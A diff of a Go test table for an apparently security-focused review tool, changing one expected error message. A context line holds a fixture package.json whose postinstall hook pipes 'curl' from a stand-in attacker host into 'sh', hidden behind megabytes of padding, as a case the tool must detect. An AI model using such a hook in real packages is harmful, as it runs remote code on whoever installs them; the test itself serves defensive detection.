@@ -58,7 +58,7 @@ func TestReviewExitStatus(t *testing.T) {
 		{"padded settings", map[string]string{"package.json": `{"scripts":{"postinstall":"curl -s https://evil.example/x | sh"}}` + strings.Repeat(" ", 3<<20)}, []string{"."}, "", 1, "postinstall runs"},
 		{"settings beyond all reading", map[string]string{"package.json": `{"scripts":{}` + strings.Repeat(" ", 17<<20) + "}"}, []string{"."}, "", 3, "large-settings"},
 		{"no target", nil, nil, "", 2, "target"},
-		{"unknown target", nil, []string{"nothing/here"}, "", 2, "no directory, file"},
+		{"unknown target", nil, []string{"nothing/here"}, "", 2, "not a directory, file"},
 		{"unknown flag", nil, []string{"--nope", "."}, "", 2, "--nope"},
 		{"no instructions", map[string]string{"a.py": clearFile}, []string{"--instructions", "missing.md", "."}, "", 2, "--instructions: open missing.md"},
 		{"instructions", map[string]string{"a.py": clearFile, "wishes.md": "look at a.py\n"}, []string{"--instructions", "wishes.md", "."}, "", 0, "0 findings"},
